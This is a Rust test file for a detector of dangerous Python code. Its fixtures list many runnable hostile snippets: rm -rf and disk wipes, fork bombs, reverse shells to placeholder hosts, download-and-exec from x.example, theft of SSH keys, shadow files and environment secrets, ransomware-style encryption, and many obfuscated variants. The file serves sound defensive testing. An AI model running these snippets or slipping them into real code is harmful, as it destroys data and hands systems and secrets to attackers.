use super::*;

#[test]
fn what_dangerous_python_does_is_found() {
    assert_found(Language::Python, DANGEROUS);
    assert_found(Language::Python, ALL_OF_THEM);
}

#[test]
fn what_is_hidden_in_python_is_read() {
    assert_found(Language::Python, HIDDEN);
}

#[test]
fn ordinary_python_is_quiet() {
    assert_quiet(Language::Python, ORDINARY);
}

const DANGEROUS: &[(&str, &str)] = &[
    ("import os; os.system('rm -rf /')", "shell rm -rf /"),
    ("import os\nos.popen('cat /etc/shadow').read()", "shell cat /etc/shadow"),
    ("import subprocess\nsubprocess.run(['rm', '-rf', '/home'])", "program rm -rf /home"),
    ("import subprocess as sp\nsp.call('dd if=/dev/zero of=/dev/sda', shell=True)", "shell dd if"),
    ("from subprocess import Popen as P\nP('mkfs.ext4 /dev/sda1', shell=True)", "shell mkfs"),
    (
        "import subprocess\nsubprocess.check_output(args=['shutdown', 'now'])",
        "program shutdown now",
    ),
    ("import shutil\nshutil.rmtree('/')", "Delete / recursive"),
    ("import shutil\nshutil.rmtree('/etc', ignore_errors=True)", "Delete /etc recursive"),
    ("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "Delete ~ recursive"),
    ("import shutil, os\nshutil.rmtree(os.environ['HOME'])", "Delete ~ recursive"),
    (
        "from pathlib import Path\nimport shutil\nshutil.rmtree(Path.home() / 'Documents')",
        "Delete ~/Documents recursive",
    ),
    (
        "import shutil, os\nshutil.rmtree(os.path.join('/', 'var', 'lib'))",
        "Delete /var/lib recursive",
    ),
    ("import os\nos.remove('/etc/passwd')", "Delete /etc/passwd"),
    (
        "import os\nfor root, dirs, files in os.walk('/'):\n    for f in files:\n        os.remove(os.path.join(root, f))",
        "Delete / recursive",
    ),
    (
        "import os\nfor f in os.listdir('/home/user'):\n    os.unlink('/home/user/' + f)",
        "Delete /home/user/ recursive",
    ),
    (
        "import glob, os\n[os.remove(f) for f in glob.glob('/var/log/*')]",
        "Delete /var/log/ recursive",
    ),
    (
        "from pathlib import Path\nfor p in Path('/').rglob('*'):\n    p.unlink()",
        "Delete / recursive",
    ),
    ("from pathlib import Path\nPath('/etc/hosts').unlink()", "Delete /etc/hosts"),
    ("open('/dev/sda', 'wb').write(b'\\0' * 512)", "Overwrite /dev/sda"),
    (
        "with open('/etc/passwd', 'a') as f:\n    f.write('x::0:0::/:/bin/sh\\n')",
        "Write /etc/passwd",
    ),
    (
        "from pathlib import Path\nPath('/etc/cron.d/x').write_text('* * * * * root sh')",
        "Overwrite /etc/cron.d/x",
    ),
    ("open('/proc/sysrq-trigger', 'w').write('b')", "Overwrite /proc/sysrq-trigger"),
    (
        "f = open('/root/.ssh/authorized_keys', 'a+')\nf.write(k)",
        "Write /root/.ssh/authorized_keys",
    ),
    ("import os\nos.chmod('/etc/shadow', 0o777)", "Permission /etc/shadow public"),
    ("import os\nos.chmod('/bin/bash', 0o4755)", "Permission /bin/bash setuid"),
    ("import os, stat\nos.chmod('/tmp/sh', stat.S_ISUID)", "Permission /tmp/sh setuid"),
    ("import os\nos.chown('/etc/sudoers', 1000, 1000)", "Owner /etc/sudoers"),
    ("import os\nos.setuid(0)\nos.system('/bin/sh')", "Privilege root"),
    ("import os, signal\nos.kill(-1, signal.SIGKILL)", "Kill -1 all"),
    ("import os\nos.kill(1, 9)", "Kill 1"),
    ("import os\nwhile True:\n    os.fork()", "Exhaust processes endless"),
    ("import os\nwhile 1: os.fork()", "Exhaust processes endless"),
    ("import os\ndef f():\n    os.fork()\n    f()\nf()", "Exhaust processes endless"),
    ("import os\nfor i in range(1000000): os.fork()", "Exhaust processes endless"),
    ("[__import__('os').fork() for _ in range(100000)]", "Exhaust processes endless"),
    ("x = []\nwhile True:\n    x.append(' ' * 10**6)", "Exhaust memory endless"),
    ("s = 'a'\nwhile True:\n    s += s", "Exhaust memory endless"),
    ("x = 'A' * (10**11)", "Exhaust memory"),
    ("b = bytearray(64 * 1024**3)", "Exhaust memory"),
    ("while True:\n    print('y')", "Exhaust output endless"),
    (
        "f = open('/tmp/fill', 'wb')\nwhile True:\n    f.write(b'0' * 1048576)",
        "Exhaust disk endless",
    ),
    (
        "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect((\"10.0.0.1\",4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nos.dup2(s.fileno(),2)\nsubprocess.call([\"/bin/sh\",\"-i\"])",
        "ReverseShell 10.0.0.1:4444",
    ),
    (
        "import socket,pty,os;s=socket.socket();s.connect(('1.2.3.4',9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('sh')",
        "ReverseShell 1.2.3.4:9001",
    ),
    (
        "import socket, subprocess\ns = socket.create_connection(('evil.example', 53))\nwhile True:\n    c = s.recv(1024).decode()\n    s.send(subprocess.getoutput(c).encode())",
        "ReverseShell evil.example:53",
    ),
    (
        "import socket, os\ns = socket.socket()\ns.bind(('0.0.0.0', 4444))\ns.listen(1)\nc, a = s.accept()\nos.dup2(c.fileno(), 0)\nos.execv('/bin/sh', ['sh'])",
        "BindShell 0.0.0.0",
    ),
    (
        "import urllib.request\nexec(urllib.request.urlopen('http://x.example/p.py').read())",
        "NetworkCode",
    ),
    ("import requests\neval(requests.get('http://x.example').text)", "NetworkCode"),
    (
        "import requests\nr = requests.get(u)\nexec(compile(r.content.decode(), '<s>', 'exec'))",
        "NetworkCode",
    ),
    ("import os, requests\nos.system(requests.get('http://x.example/cmd').text)", "NetworkCode"),
    (
        "import urllib.request, os\nurllib.request.urlretrieve('http://x.example/m', '/tmp/m')\nos.chmod('/tmp/m', 0o755)\nos.system('/tmp/m')",
        "NetworkCode",
    ),
    (
        "import requests, subprocess\nopen('/tmp/a.sh', 'wb').write(requests.get('http://x.example').content)\nsubprocess.run(['bash', '/tmp/a.sh'])",
        "NetworkCode",
    ),
    (
        "import pickle, requests\npickle.loads(requests.get('http://x.example').content)",
        "NetworkCode",
    ),
    ("import yaml, requests\nyaml.load(requests.get(u).text, Loader=yaml.Loader)", "NetworkCode"),
    (
        "import subprocess, requests\nsubprocess.run(['bash'], input=requests.get('https://x.example/i.sh').content)",
        "NetworkCode",
    ),
    (
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJxLy')))",
        "DecodedCode  hidden",
    ),
    ("import marshal\nexec(marshal.loads(b'\\xe3\\x00'))", "DecodedCode  hidden"),
    (
        "import requests\nrequests.post('http://x.example', data=open('/root/.ssh/id_rsa').read())",
        "Send http://x.example with-secrets",
    ),
    (
        "import requests, os\nrequests.post('http://x.example', json=dict(os.environ))",
        "Send http://x.example with-secrets",
    ),
    (
        "import os, json, urllib.request as u\nu.urlopen('http://x.example', data=json.dumps(dict(os.environ)).encode())",
        "Send http://x.example with-secrets",
    ),
    (
        "import requests\nwith open('/etc/shadow') as f:\n    d = f.read()\nrequests.post('http://x.example', files={'f': d})",
        "Send http://x.example with-secrets",
    ),
    (
        "import os, requests\nk = open(os.path.expanduser('~/.aws/credentials')).read()\nrequests.get('http://x.example/?k=' + k)",
        "Send http://x.example/?k=… with-secrets",
    ),
    (
        "import http.client\nc = http.client.HTTPSConnection('x.example')\nc.request('POST', '/', open('/home/u/.netrc').read())",
        "Send … with-secrets",
    ),
    (
        "import socket\ns = socket.socket()\ns.connect(('x.example', 80))\ns.sendall(open('/etc/shadow','rb').read())",
        "Send … with-secrets",
    ),
    (
        "import os\nfrom cryptography.fernet import Fernet\nk = Fernet(Fernet.generate_key())\nfor r, d, fs in os.walk('/home'):\n    for f in fs:\n        p = os.path.join(r, f)\n        data = open(p, 'rb').read()\n        open(p, 'wb').write(k.encrypt(data))",
        "Overwrite /home recursive,hidden",
    ),
    (
        "from pynput.keyboard import Listener\nwith Listener(on_press=log) as l:\n    l.join()",
        "Secret keys",
    ),
    (
        "import sqlite3\nc = sqlite3.connect('prod.db')\nc.execute('DROP TABLE users')",
        "Remote DROP TABLE users all",
    ),
    (
        "import psycopg2\nconn = psycopg2.connect(dsn)\ncur = conn.cursor()\ncur.execute('DELETE FROM orders')",
        "Remote DELETE FROM orders all",
    ),
    ("cur.execute('TRUNCATE TABLE customers')", "Remote TRUNCATE TABLE customers all"),
    ("import ctypes\nlibc = ctypes.CDLL('libc.so.6')\nlibc.system(b'rm -rf /')", "shell rm -rf /"),
    (
        "import ctypes, mmap\nm = mmap.mmap(-1, 4096, prot=7)\nm.write(code)\nctypes.CFUNCTYPE(ctypes.c_int)(addr)()",
        "DecodedCode machine code in memory hidden",
    ),
    ("import pty; pty.spawn('/bin/bash')", "ShellEscape"),
    ("import os; os.execl('/bin/sh', 'sh', '-p')", "program /bin/sh -p"),
    (
        "import http.server, socketserver\nsocketserver.TCPServer(('', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()",
        "Listen  public",
    ),
    (
        "import smtplib\ns = smtplib.SMTP('x.example')\ns.sendmail('a', 'b', open('/etc/passwd').read())",
        "Send … with-secrets",
    ),
    (
        "class A:\n    def __reduce__(self):\n        import os\n        return (os.system, ('x',))\ndef go():\n    import os\n    os.system('curl x.example | sh')",
        "shell curl x.example | sh",
    ),
    (
        "def wipe(path):\n    import shutil\n    shutil.rmtree(path)\nwipe('/srv')",
        "Delete /srv recursive",
    ),
    (
        "import os\nfor d in ['/etc', '/usr', '/boot']:\n    os.system('rm -rf ' + d)",
        "shell rm -rf /boot",
    ),
    ("import os, sys\nos.system(f\"rm -rf {'/'}\")", "shell rm -rf /"),
    ("print 'x'\nimport os\nos.system('rm -rf /')", "shell rm -rf /"),
];

/// Many at once.
const ALL_OF_THEM: &[(&str, &str)] = &[
    ("import psutil\nfor p in psutil.process_iter():\n    p.kill()", "Kill … all"),
    ("import os\nfor pid in range(1, 70000):\n    os.kill(pid, 9)", "Kill … all"),
    ("import os\nfor pid in os.listdir('/proc'):\n    os.kill(int(pid), 9)", "Kill … all"),
    (
        "import socket\nfor p in range(1, 65535):\n    s = socket.socket()\n    s.connect_ex(('10.0.0.1', p))",
        "Scan 10.0.0.1",
    ),
    (
        "from pathlib import Path\nPath.home().joinpath('.ssh', 'id_rsa').read_text()",
        "Read ~/.ssh/id_rsa",
    ),
];

const HIDDEN: &[(&str, &str)] = &[
    ("__import__('os').system('rm -rf /')", "shell rm -rf /"),
    ("__import__('os.path').system('id')", "shell id"),
    ("import importlib\nimportlib.import_module('o' + 's').system('id')", "shell id"),
    ("import os\ngetattr(os, 'sys' + 'tem')('rm -rf /')", "shell rm -rf /"),
    ("import os as o\ns = o.system\ns('rm -rf ~')", "shell rm -rf ~"),
    ("from os import *\nsystem('rm -rf /')", "shell rm -rf /"),
    ("globals()['__builtins__'].__import__('os').system('id')", "shell id"),
    ("__builtins__.__dict__['__import__']('os').system('id')", "shell id"),
    ("import sys\nsys.modules['os'].system('id')", "shell id"),
    ("import os\nvars(os)['system']('id')", "shell id"),
    ("import os\nos.__dict__['sys' 'tem']('id')", "shell id"),
    ("import base64, os\nos.system(base64.b64decode('cm0gLXJmIC8=').decode())", "shell rm -rf /"),
    ("import base64\nexec(base64.b64decode(b'aW1wb3J0IG9z'))", "code import os"),
    ("import os\nos.system(bytes.fromhex('726d202d7266202f').decode())", "shell rm -rf /"),
    ("import os\nos.system('/ fr- mr'[::-1])", "shell rm -rf /"),
    ("import os\nos.system(''.join(reversed('/ fr- mr')))", "shell rm -rf /"),
    (
        "import os\nos.system(''.join(map(chr, [114, 109, 32, 45, 114, 102, 32, 47])))",
        "shell rm -rf /",
    ),
    ("import os\nos.system(''.join(chr(c) for c in [114, 109, 32, 47]))", "shell rm /"),
    ("import os\nos.system(''.join([chr(ord(c) ^ 1) for c in 'sl!,sg!.']))", "shell rm -rf /"),
    ("import os\nos.system(''.join(map(lambda c: chr(c - 1), [115, 110])))", "shell rm"),
    ("import os\nos.system(chr(114) + chr(109) + ' -rf ' + chr(47))", "shell rm -rf /"),
    ("import codecs, os\nos.system(codecs.decode('ez -es /', 'rot13'))", "shell rm -rf /"),
    ("import os\nos.system('%s -rf %s' % ('rm', '/'))", "shell rm -rf /"),
    ("import os\nos.system('{} -rf {}'.format('rm', '/'))", "shell rm -rf /"),
    ("import os\nos.system('r_m_ _-_r_f_ _/'.replace('_', ''))", "shell rm -rf /"),
    ("import os\nos.system('\\x72\\x6d\\x20-rf\\u0020\\057')", "shell rm -rf /"),
    ("import os\na = 'rm'\nb = ' -rf'\nc = a + b\nos.system(c + ' /')", "shell rm -rf /"),
    ("import os\nparts = ['rm', '-rf', '/']\nos.system(' '.join(parts))", "shell rm -rf /"),
    ("import os\nd = {'a': 'rm -rf /'}\nos.system(d['a'])", "shell rm -rf /"),
    ("import os\ns = ''\nfor c in [114, 109]:\n    s += chr(c)\nos.system(s)", "shell rm"),
    ("eval(\"__import__('os').system('id')\")", "code __import__('os').system('id')"),
    ("exec('imp' 'ort os; os.system(\"id\")')", "code import os; os.system(\"id\")"),
    ("(lambda f: f('rm -rf /'))(__import__('os').system)", "shell rm -rf /"),
    ("import os\nrun = lambda c: os.system(c)\nrun('rm -rf /')", "shell rm -rf /"),
    (
        "import threading, os\nthreading.Thread(target=os.system, args=('rm -rf /',)).start()",
        "shell rm -rf /",
    ),
    ("import os\nlist(map(os.system, ['rm -rf /']))", "shell rm -rf /"),
    ("import os\nos.system(str.join('', ['rm', ' /']))", "shell rm /"),
    ("import os\n(cmd := 'rm -rf /')\nos.system(cmd)", "shell rm -rf /"),
    ("import os\nos.system('nc -fe /'.translate(str.maketrans('nce', 'rmr')))", "shell rm -fr /"),
];

const ORDINARY: &[&str] = &[
    "print('hello')",
    "import json\nd = json.load(open('package.json'))\nprint(d['version'])",
    "import os\nprint(os.environ.get('HOME'))",
    "import os\nprint(os.getcwd(), os.listdir('.'))",
    "import subprocess\nsubprocess.run(['git', 'status'], check=True)",
    "import subprocess\nout = subprocess.check_output(['ls', '-la']).decode()\nprint(out)",
    "import requests\nprint(requests.get('https://api.example.com/v1').json())",
    "import requests\nr = requests.post('https://api.example.com', json={'a': 1}, headers={'Authorization': 'Bearer ' + token})\nprint(r.status_code)",
    "import os, requests\nkey = os.environ['API_KEY']\nrequests.get('https://api.example.com', headers={'X-Key': key})",
    "model.eval()\nwith torch.no_grad():\n    y = model(x)",
    "import re\np = re.compile(r'(\\d+)')\nprint(p.match('12').group(1))",
    "with open('out.txt', 'w') as f:\n    f.write('x')",
    "from pathlib import Path\nfor p in Path('src').rglob('*.py'):\n    t = p.read_text()\n    p.write_text(t.replace('a', 'b'))",
    "import csv, sys\nfor row in csv.reader(sys.stdin):\n    print(row[0])",
    "import sys\nprint(sys.version)\nsys.exit(0)",
    "import tempfile, shutil\nd = tempfile.mkdtemp()\nshutil.rmtree(d)",
    "import os\nif os.path.exists('build/out.o'):\n    os.remove('build/out.o')",
    "def save(path, text):\n    with open(path, 'w') as f:\n        f.write(text)\nsave('notes.md', 'x')",
    "def run(cmd):\n    return subprocess.run(cmd, shell=True, check=True)\n",
    "import argparse\np = argparse.ArgumentParser()\np.add_argument('file')\na = p.parse_args()\nprint(open(a.file).read())",
    "while True:\n    line = input('> ')\n    if line == 'q':\n        break\n    print(line)",
    "import time\nwhile True:\n    print(time.time())\n    time.sleep(1)",
    "x = [i * i for i in range(100)]\nprint(sum(x))",
    "def fib(n):\n    return n if n < 2 else fib(n-1) + fib(n-2)\nprint(fib(20))",
    "import socket\nprint(socket.gethostname())",
    "import socket\ns = socket.socket()\ns.settimeout(2)\nprint(s.connect_ex(('localhost', 8080)))",
    "import http.server\nhttp.server.HTTPServer(('127.0.0.1', 8000), http.server.SimpleHTTPRequestHandler).serve_forever()",
    "import base64\nprint(base64.b64encode(b'hello').decode())",
    "import base64\nprint(base64.b64decode('aGVsbG8=').decode())",
    "import sqlite3\nc = sqlite3.connect('app.db')\nfor r in c.execute('SELECT * FROM users WHERE id = ?', (1,)):\n    print(r)",
    "import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute('CREATE TABLE t (a INTEGER)')\nc.execute('DELETE FROM t WHERE a = 1')",
    "import yaml\nprint(yaml.safe_load(open('config.yml')))",
    "import pickle\nwith open('model.pkl', 'rb') as f:\n    m = pickle.load(f)",
    "import numpy as np\na = np.zeros((1000, 1000))\nprint(a.mean())",
    "import pandas as pd\ndf = pd.read_csv('data.csv')\nprint(df.groupby('a').sum())",
    "df.eval('a + b')\ndf.query('a > 1')",
    "import logging\nlogging.basicConfig(level=logging.INFO)\nlogging.info('x')",
    "from flask import Flask\napp = Flask(__name__)\n@app.route('/')\ndef index():\n    return 'x'\napp.run(debug=True)",
    "import asyncio\nasync def main():\n    await asyncio.sleep(1)\nasyncio.run(main())",
    "import unittest\nclass T(unittest.TestCase):\n    def test_a(self):\n        self.assertEqual(1, 1)\nunittest.main()",
    "import ast\nprint(ast.literal_eval('[1, 2]'))",
    "import hashlib\nprint(hashlib.sha256(open('a.bin', 'rb').read()).hexdigest())",
    "import os\nos.makedirs('dist', exist_ok=True)\nos.chmod('dist/run.sh', 0o755)",
    "import shutil\nshutil.rmtree('build', ignore_errors=True)\nshutil.copy('a.txt', 'b.txt')",
    "import os\nBASE = os.path.dirname(os.path.abspath(__file__))\nopen(os.path.join(BASE, 'data.json')).read()",
    "from pathlib import Path\nROOT = Path(__file__).resolve().parent.parent\n(ROOT / 'out' / 'x.txt').write_text('y')",
    "import sys, subprocess\nsubprocess.check_call([sys.executable, '-m', 'pip', 'install', '-r', 'requirements.txt'])",
    "import os\nos.system('clear')",
    "import subprocess\nbranch = 'main'\nsubprocess.run(f'git checkout {branch}', shell=True)",
    "import urllib.request\nhtml = urllib.request.urlopen('https://example.com').read().decode()\nprint(len(html))",
    "import requests\nr = requests.get('https://example.com/a.zip')\nopen('a.zip', 'wb').write(r.content)",
    "from concurrent.futures import ThreadPoolExecutor\nwith ThreadPoolExecutor() as e:\n    print(list(e.map(str, range(10))))",
    "import threading\nt = threading.Thread(target=work, args=(1,))\nt.start()\nt.join()",
    "import multiprocessing as mp\nps = [mp.Process(target=f) for _ in range(4)]\nfor p in ps:\n    p.start()",
    "import os, signal\nos.kill(pid, signal.SIGTERM)",
    "s = ''.join(chr(c) for c in [104, 105])\nprint(s)",
    "print('abc'[::-1])",
    "import zlib\nprint(zlib.decompress(open('x.z', 'rb').read()))",
    "import glob, os\nfor f in glob.glob('*.pyc'):\n    os.remove(f)",
    "import os\nfor r, d, fs in os.walk('.'):\n    for f in fs:\n        if f.endswith('.py'):\n            print(os.path.join(r, f))",
    "queue = [root]\nwhile queue:\n    n = queue.pop()\n    queue.append(n.left)",
    "while True:\n    chunk = f.read(1024)\n    if not chunk:\n        break\n    out.append(chunk)",
    "import json, sys\nd = json.load(sys.stdin)\nprint(json.dumps(d, indent=2))",
    "from http.server import HTTPServer, BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n    def do_GET(self):\n        self.send_response(200)\n",
    "import os\nprint('\\n'.join(f'{k}={v}' for k, v in os.environ.items()))",
];
